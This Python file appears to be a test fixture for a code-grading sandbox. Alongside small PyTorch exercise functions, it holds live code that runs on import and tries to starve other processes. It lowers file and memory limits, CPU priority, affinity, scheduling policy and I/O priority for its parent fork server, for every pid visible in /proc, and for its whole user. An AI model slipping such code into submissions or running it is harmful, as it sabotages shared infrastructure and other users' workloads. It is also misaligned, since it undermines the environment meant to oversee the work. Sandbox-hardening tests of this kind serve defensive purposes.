# expect: conv_shapes=passed convnet_shape=passed intermediate_size=passed
"""Lowers the limits, priority, scheduling policy, affinity and I/O priority of its parent (the
fork server), of every pid it can see and of its whole uid (PRIO_USER), then does its own work."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
targets = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()} - {os.getpid()}
for pid in targets:
    for attack in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (20, 20)),
                   lambda: resource.prlimit(pid, resource.RLIMIT_DATA, (300 << 20, 300 << 20)),
                   lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                   lambda: os.sched_setaffinity(pid, {0}),
                   lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                   lambda: libc.syscall(251, 1, pid, (3 << 13) | 7)):  # ioprio_set(PROCESS, pid, IDLE)
        try:
            attack()
        except OSError:
            pass
for which in (os.PRIO_USER, os.PRIO_PGRP):
    try:
        os.setpriority(which, 0, 19)
    except OSError:
        pass
import torch
from torch import nn

INTERMEDIATE_SIZE = 32 * 4 * 4


def conv_parameter_shapes(in_channels, out_channels, kernel_size):
    conv = nn.Conv2d(in_channels, out_channels, kernel_size)
    return {"weight": tuple(conv.weight.shape), "bias": tuple(conv.bias.shape)}


def build_convnet():
    return nn.Sequential(
        nn.Unflatten(1, (1, 28, 28)),
        nn.Conv2d(1, 16, 5), nn.ReLU(), nn.MaxPool2d(2),
        nn.Conv2d(16, 16, 3), nn.ReLU(), nn.MaxPool2d(2),
        nn.Conv2d(16, 32, 2), nn.ReLU(),
        nn.Flatten(),
    )

